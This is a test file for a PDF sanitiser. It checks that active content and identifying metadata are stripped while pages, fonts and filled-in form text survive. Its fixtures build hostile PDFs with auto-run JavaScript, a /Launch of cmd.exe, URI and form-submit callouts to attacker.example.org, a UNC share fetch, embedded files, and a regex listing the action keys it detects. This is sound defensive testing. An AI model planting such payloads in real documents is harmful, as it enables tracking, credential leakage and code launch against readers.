import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { array, assert, asyncProperty, boolean, constantFrom, nat, record } from 'fast-check';
import { treat } from '../../server/domains/persons/documents/workshop/treat';
import type { Treated } from '../../server/domains/persons/documents/workshop/treated';
import { contentsOf, dictionariesOf } from '../support/parsed-pdf';
import { jpeg, objectStream, pdf } from '../support/papers';

const LARGEST = 10 * 1024 * 1024;

async function treated(bytes: Buffer): Promise<Treated> {
  const result = await treat({ bytes, mediaType: 'application/pdf', largest: LARGEST });
  if ('flaw' in result) throw new Error(result.flaw);
  return result.treated;
}

async function flawOf(bytes: Buffer): Promise<string | null> {
  const result = await treat({ bytes, mediaType: 'application/pdf', largest: LARGEST });
  return 'flaw' in result ? result.flaw : null;
}

/** Whatever makes a reader's program do something, or look elsewhere; whatever tells who made the file, when, or where. */
const ACTS =
  /\/(AA|OpenAction|JavaScript|JS|Launch|URI|GoToR|GoToE|SubmitForm|ImportData|ResetForm|Named|RichMedia\w*|Rendition|Movie|Sound|3D|3DD|Screen|XFA|AcroForm|EmbeddedFiles?|Filespec|EF|AF|FS|Names|Ref|OPI|Collection|Metadata|PieceInfo|Info|FileAttachment|Action)(?![A-Za-z0-9])|\/F \(|\/Subtype \/Link|\/UF|attacker|example\.org/;

const obj = (number: number, body: string) => `${number} 0 obj\n${body}\nendobj`;
const stream = (number: number, dictionary: string, body = 'x') =>
  obj(number, `<< ${dictionary} /Length ${body.length} >>\nstream\n${body}\nendstream`);
const URI = '<< /S /URI /URI (https://attacker.example.org/seen) >>';
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const UNC = '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] /NewWindow false >>';
const SPEC = '<< /Type /Filespec /F (https://attacker.example.org/x) /UF (https://attacker.example.org/x) /FS /URL >>';
const annotated = (annotation: string, more: string[] = []) =>
  pdf([obj(5, annotation), ...more], '', '', '/Annots [5 0 R]');

describe('a paper that acts is kept, and what acted is gone', () => {
  it.each([
    ['a page that calls a site when it is opened', pdf([], '', '', `/AA << /O ${URI} >>`)],
    ['a page that opens a file of a server of Windows', pdf([], '', '', `/AA << /O ${UNC} >>`)],
    [
      'a page whose action stands behind two references',
      pdf([obj(5, '6 0 R'), obj(6, `<< /O ${URI} >>`)], '', '', '/AA 5 0 R'),
    ],
    ['an action at the opening', pdf([], `/OpenAction ${URI}`)],
    ['an action at the opening, elsewhere', pdf([obj(5, SCRIPT)], '/OpenAction 5 0 R')],
    ['an action at the opening, nowhere to be found', pdf([], '/OpenAction 44 0 R')],
    ['an action at the printing', pdf([], `/AA << /WP ${SCRIPT} >>`)],
    ['scripts of the document', pdf([obj(5, `<< /Names [(a) ${SCRIPT}] >>`)], '/Names << /JavaScript 5 0 R >>')],
    ['a script whose name is spelt in hexadecimal', pdf([], '/OpenAction << /S /J#61v#61Script /J#53 (x) >>')],
    ['a script among the compressed objects', pdf([objectStream(`5 0 ${SCRIPT}`)], '/OpenAction 5 0 R')],
    ['a program to start', pdf([obj(5, '<< /S /Launch /F (cmd.exe) >>')], '/OpenAction 5 0 R')],
    ['a chain of actions', pdf([], `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${URI} ${SCRIPT}] >>`)],
    ['a link', annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${URI} >>`)],
    ['a link out of its place', annotated(`<< /Subtype /Link /Rect [0 0 9 9] /PA ${URI} >>`)],
    [
      'a note that acts when one passes over it',
      annotated(`<< /Subtype /Text /Rect [0 0 9 9] /Contents (a) /AA << /E ${URI} >> >>`),
    ],
    ['a film', annotated(`<< /Subtype /Movie /Rect [0 0 9 9] /A true /Movie << /F ${SPEC} >> >>`)],
    ['a sound', annotated('<< /Subtype /Sound /Rect [0 0 9 9] /Sound 6 0 R >>', [stream(6, '/Type /Sound /R 8000')])],
    ['a screen that plays', annotated(`<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 /JS (x) >> >>`)],
    [
      'a thing in three dimensions',
      annotated('<< /Subtype /3D /Rect [0 0 9 9] /3DD 6 0 R >>', [stream(6, '/Type /3D /OnInstantiate 7 0 R')]),
    ],
    [
      'rich media',
      annotated(`<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(a) ${SPEC}] >> >> >>`),
    ],
    ['a file pinned to a page', annotated(`<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${SPEC} >>`)],
    [
      'files of the document',
      pdf(
        [obj(5, `<< /Names [(a) ${SPEC}] >>`), stream(6, '/Type /EmbeddedFile')],
        '/Names << /EmbeddedFiles 5 0 R >>',
      ),
    ],
    ['files associated with it', pdf([], `/AF [${SPEC}]`, '', `/AF [${SPEC}]`)],
    [
      'a content that stands elsewhere',
      pdf([stream(5, `/F ${SPEC} /FFilter /FlateDecode`)], '', '', '/Contents 5 0 R'),
    ],
    [
      'a picture that stands elsewhere',
      pdf(
        [stream(5, `/Subtype /Image /Width 1 /Height 1 /F ${SPEC}`)],
        '',
        '',
        '/Resources << /XObject << /I 5 0 R >> >>',
      ),
    ],
    [
      'a form drawn from another file',
      pdf(
        [stream(5, `/Subtype /Form /Ref << /F ${SPEC} /Page 0 >> /OPI << /2.0 ${SPEC} >>`)],
        '',
        '',
        '/Resources << /XObject << /I 5 0 R >> >>',
      ),
    ],
    [
      'a form that sends',
      pdf(
        [obj(5, `<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] /A << /S /SubmitForm /F ${SPEC} >> >>`)],
        '/AcroForm << /Fields [5 0 R] >>',
        '',
        '/Annots [5 0 R]',
      ),
    ],
    [
      'a button that sends, reached through what screen readers go by',
      pdf(
        [
          obj(5, `<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A ${URI} >>`),
          obj(6, '<< /Type /StructTreeRoot /K << /Type /StructElem /S /Form /K << /Type /OBJR /Obj 5 0 R >> >> >>'),
        ],
        '/StructTreeRoot 6 0 R',
      ),
    ],
    [
      'an outline that acts',
      pdf([obj(5, `<< /First 6 0 R >>`), obj(6, `<< /Title (a) /A ${URI} >>`)], '/Outlines 5 0 R'),
    ],
    [
      'who made it, and when',
      pdf(
        [obj(5, '<< /Author (attacker) /Producer (x) >>'), stream(6, '/Type /Metadata /Subtype /XML')],
        '/Metadata 6 0 R',
        '/Info 5 0 R',
        '/PieceInfo << /A << /Private (attacker) >> >>',
      ),
    ],
  ])('%s', async (_what, bytes) => {
    expect(`${bytes.toString('latin1')}${URI}`).toMatch(ACTS);
    const { bytes: kept } = await treated(bytes);
    expect(await dictionariesOf(kept)).not.toMatch(ACTS);
    expect(await PDFDocument.load(kept).then((read) => read.getPageCount())).toBe(1);
  });

  it('wherever it stands, however many references lead to it, and however its name is spelt', async () => {
    const place = constantFrom('catalog', 'page', 'resource', 'mark', 'structure', 'content');
    const named = constantFrom('AA', 'OpenAction', 'A', 'PA', 'JS', 'X', 'Next', 'Metadata', 'Ref', 'F');
    const hidden = record({
      place,
      named,
      action: constantFrom(URI, SCRIPT, UNC, SPEC),
      behind: nat(4),
      spelt: boolean(),
      packed: boolean(),
    });
    await assert(
      asyncProperty(array(hidden, { minLength: 1, maxLength: 6 }), async (all) => {
        const { bytes } = await treated(hostile(all));
        expect(await dictionariesOf(bytes)).not.toMatch(ACTS);
      }),
      { numRuns: 150, endOnFailure: true },
    );
  });
});

interface Hidden {
  place: string;
  named: string;
  action: string;
  behind: number;
  spelt: boolean;
  packed: boolean;
}

/** A PDF with what is asked at each place, behind references, some of them among compressed objects. */
function hostile(all: Hidden[]): Buffer {
  const said: Record<string, string> = {};
  const [plain, packed] = [[] as string[], [] as [number, string][]];
  let next = 20;
  for (const { place, named, action, behind, spelt, packed: isPacked } of all) {
    let value = action;
    for (let left = behind; left > 0; left--) {
      const number = next++;
      if (isPacked) packed.push([number, value]);
      else plain.push(obj(number, value));
      value = `${number} 0 R`;
    }
    const name = spelt ? [...named].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('') : named;
    said[place] = `${said[place] ?? ''} /${name} ${value}`;
  }
  const at = (place: string) => said[place] ?? '';
  const first = packed
    .map(([number], index) => `${number} ${packed.slice(0, index).reduce((sum, [, text]) => sum + text.length + 1, 0)}`)
    .join(' ');
  const folded = deflateSync(Buffer.from(`${first} ${packed.map(([, text]) => text).join(' ')}`, 'latin1')).toString(
    'latin1',
  );
  const objects = [
    obj(5, `<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] ${at('mark')} >>`),
    obj(6, `<< /Type /StructTreeRoot /K << /Type /StructElem /S /P ${at('structure')} >> >>`),
    obj(7, `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${at('resource')} >>`),
    stream(8, at('content'), 'BT ET'),
    ...plain,
    ...(packed.length > 0
      ? [stream(9, `/Type /ObjStm /N ${packed.length} /First ${first.length + 1} /Filter /FlateDecode`, folded)]
      : []),
  ];
  const page = `/Annots [5 0 R] /Contents 8 0 R /Resources << /Font << /T1 7 0 R >> >> ${at('page')}`;
  return pdf(objects, `/StructTreeRoot 6 0 R ${at('catalog')}`, '', page);
}

describe('what a paper shows stays', () => {
  it('its pages in their order, with what they inherit, their content, and typefaces whatever their names', async () => {
    const bytes = pdf(
      [
        obj(
          5,
          '<< /Type /Pages /Parent 2 0 R /Kids [6 0 R 7 0 R] /Rotate 90 /Resources << /Font << /AA 8 0 R /JS 8 0 R >> >> >>',
        ),
        obj(6, '<< /Type /Page /Parent 5 0 R /Contents 9 0 R >>'),
        obj(7, '<< /Type /Page /Parent 5 0 R /MediaBox [0 0 50 50] >>'),
        obj(8, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'),
        stream(9, '', 'BT /AA 9 Tf (bonjour) Tj ET'),
        obj(2, '<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 3 /MediaBox [0 0 100 100] >>'),
      ],
      '/Lang (fr-FR)',
    );
    const { bytes: kept } = await treated(bytes);
    const read = await PDFDocument.load(kept);
    expect(read.getPages().map((page) => [page.getWidth(), page.getRotation().angle])).toEqual([
      [200, 0],
      [100, 90],
      [50, 90],
    ]);
    expect(await dictionariesOf(kept)).toMatch(/\/Font <<\s*\/AA \d+ 0 R\s*\/JS \d+ 0 R/);
    expect((await contentsOf(kept)).toString('latin1')).toContain('(bonjour)');
  });

  it('what was written in a form, which becomes a mark on the page', async () => {
    const source = await PDFDocument.create();
    const field = source.getForm().createTextField('nom');
    field.setText('Diallo');
    field.addToPage(source.addPage());
    source.getForm().acroForm.dict.set(PDFName.of('NeedAppearances'), source.context.obj(true));
    const { bytes, changes } = await treated(Buffer.from(await source.save({ updateFieldAppearances: false })));
    expect(await dictionariesOf(bytes)).toMatch(/\/Subtype \/Stamp/);
    const drawn = await treated(Buffer.from(bytes));
    expect(drawn.bytes.length).toBeGreaterThan(0);
    expect(changes).toContain('ACTIONS_REMOVED');
    const helvetica = await dictionariesOf(bytes);
    expect(helvetica).toMatch(/\/BaseFont \/Helvetica/);
  });

  it('a photograph of a page, without the place that its own metadata tell', async () => {
    const photo = jpeg(2, 2, 'GPS 45.18 N');
    const bytes = pdf(
      [stream(5, '/Subtype /Image /Width 2 /Height 2 /Filter /DCTDecode', photo.toString('latin1'))],
      '',
      '',
      '/Resources << /XObject << /I 5 0 R >> >>',
    );
    const { bytes: kept, changes } = await treated(bytes);
    expect((await contentsOf(kept)).toString('latin1')).not.toContain('GPS');
    expect((await contentsOf(kept)).subarray(0, 2)).toEqual(Buffer.from([0xff, 0xd8]));
    expect(changes).toEqual(['METADATA_REMOVED']);
  });

  it('nothing of an earlier saving, which the last one hid', async () => {
    const former = pdf([stream(5, '', '(celle qui signe est Aminata)')], '', '', '/Contents 5 0 R');
    const later = Buffer.concat([
      former,
      Buffer.from(`${stream(5, '', '(illisible)')}\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`),
    ]);
    const { bytes } = await treated(later);
    const shown = (await contentsOf(bytes)).toString('latin1');
    expect([shown.includes('Aminata'), shown.includes('illisible')]).toEqual([false, true]);
  });
});

describe('a paper of which nothing can be made is refused by a code', () => {
  it.each([
    [
      'under a password',
      pdf([obj(5, '<< /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P 0 >>')], '', '/Encrypt 5 0 R /ID [(a) (a)]'),
      'ENCRYPTED',
    ],
    ['under a protection that is nowhere to be found', pdf([], '', '/Encrypt 55 0 R'), 'ENCRYPTED'],
    ['a portfolio of files', pdf([], '/Collection << /View /T >>'), 'HOLDS_FILES'],
    ['a form that a program draws', pdf([], '/AcroForm << /Fields [] /XFA 5 0 R >>'), 'UNREADABLE'],
    [
      'a form whose text would be lost',
      pdf(
        [obj(5, '<< /Subtype /Widget /FT /Tx /V (\\376\\377\\006\\047) /T (a) /Rect [0 0 9 9] >>')],
        '/AcroForm << /Fields [5 0 R] >>',
        '',
        '/Annots [5 0 R]',
      ),
      'UNREADABLE',
    ],
    [
      'without a page',
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
      'UNREADABLE',
    ],
    ['nonsense', Buffer.from(`%PDF-1.7\n${'nonsense '.repeat(1_000)}\n%%EOF\n`), 'UNREADABLE'],
  ])('%s', async (_what, bytes, flaw) => expect(await flawOf(bytes)).toBe(flaw));
});

describe('papers as people have them, one of each writer', () => {
  const folder = join(__dirname, '../fixtures/papers');
  const files = readdirSync(folder).filter((name) => name.endsWith('.pdf'));

  it('come from more than ten writers', () => expect(files.length).toBeGreaterThan(10));

  it.each(files)('%s is kept, with its pages, and nothing acts', async (name) => {
    const bytes = readFileSync(join(folder, name));
    const { bytes: kept } = await treated(bytes);
    expect(await dictionariesOf(kept)).not.toMatch(ACTS);
    const pages = async (of: Uint8Array) => (await PDFDocument.load(of, { ignoreEncryption: true })).getPageCount();
    expect(await pages(kept)).toBe(await pages(bytes));
  });
});
